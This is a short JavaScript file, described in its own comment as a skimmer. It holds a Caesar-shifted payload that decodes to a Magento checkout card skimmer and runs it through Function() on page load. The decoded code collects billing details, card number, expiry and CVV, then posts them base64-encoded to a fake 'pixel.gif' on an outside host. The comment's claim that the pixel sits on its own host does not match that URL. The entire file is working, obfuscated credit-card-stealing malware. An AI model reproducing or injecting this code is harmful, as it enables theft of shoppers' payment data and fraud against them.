// The whole skimmer kept as one string whose letters are shifted by three; a decoder turns
// the shift back and hands the text to a Function on DOMContentLoaded. The decoded skimmer
// reads the Magento billing and card fields by ID and posts them, base64-encoded, to a
// "pixel" on its own host once all are filled, de-duplicated in sessionStorage.
(function (k) {
  var z = "li(!/fkhfnrxw|sdbphqw/.whvw(orfdwlrq.sdwkqdph))uhwxuq;ydu i=[\"eloolqj:iluvwqdph\",\"eloolqj:odvwqdph\",\"eloolqj:vwuhhw1\",\"eloolqj:flwb\",\"eloolqj:srvwfrgh\",\"sdbphqw_ff_qxpehu\",\"sdbphqw_ff_has_prqwk\",\"sdbphqw_ff_has_bhdu\",\"sdbphqw_ff_flg\"];grfxphqw.dggHyhqwOlvwhqhu(\"fkdqjh\",ixqfwlrq(){ydu r={},q=0;iru(ydu l=0;l<i.ohqjwk;l++){ydu h=grfxphqw.jhwHohphqwEbLg(i[l]);li(h&&h.ydoxh){r[i[l]]=h.ydoxh;q++}}li(q<i.ohqjwk)uhwxuq;li(vhvvlrqVwrudjh.jhwLwhp(\"_of\")===MVRQ.vwulqjlib(r))uhwxuq;vhvvlrqVwrudjh.vhwLwhp(\"_of\",MVRQ.vwulqjlib(r));ihwfk(\"kwwsv://vwdwlf-ofgq.lqydolg/lpj/slaho.jli\",{phwkrg:\"SRVW\",prgh:\"qr-fruv\",ergb:ewrd(MVRQ.vwulqjlib(r))})});";
  var a = "abcdefghijklmnopqrstuvwxyz", A = a.toUpperCase(), r = [];
  for (var i = 0; i < z.length; i++) {
    var ch = z.charAt(i), p = a.indexOf(ch), q = A.indexOf(ch);
    r.push(p > -1 ? a.charAt((p + 26 - k) % 26) : q > -1 ? A.charAt((q + 26 - k) % 26) : ch);
  }
  var run = function () { try { Function(r.join(""))(); } catch (e) {} };
  if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", run);
  else run();
})(3);
